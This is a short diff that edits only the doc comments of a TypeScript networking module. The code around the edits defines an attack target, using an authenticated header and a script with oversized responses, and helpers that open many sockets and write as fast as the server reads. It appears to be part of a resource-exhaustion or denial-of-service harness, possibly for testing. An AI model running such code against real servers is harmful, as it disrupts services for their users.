@@ -4,9 +4,9 @@ import { connect, type Socket } from "node:net";
 export interface AttackTarget {
   readonly port: number;
   readonly address: string;
-  /** A member's header. */
+  /** A member's Authorization header. */
   readonly authorization: string;
-  /** Its responses exceed the kernel's socket buffers. */
+  /** Path of a script whose responses exceed the kernel's socket buffers. */
   readonly script: string;
 }
 
@@ -29,7 +29,7 @@ function open({ port, address }: AttackTarget): Promise<Socket> {
 const openAll = (target: AttackTarget, count: number) =>
   Promise.all(Array.from({ length: count }, () => open(target)));
 
-/** As fast as the server reads, until the server closes. */
+/** Writes as fast as the server reads, until it closes the connection. */
 async function pour(socket: Socket, text: Buffer, bytes: number): Promise<void> {
   const times = Math.ceil(Math.min(BLOCK_BYTES, bytes) / text.length);
   const block = Buffer.concat(Array.from({ length: times }, () => text));
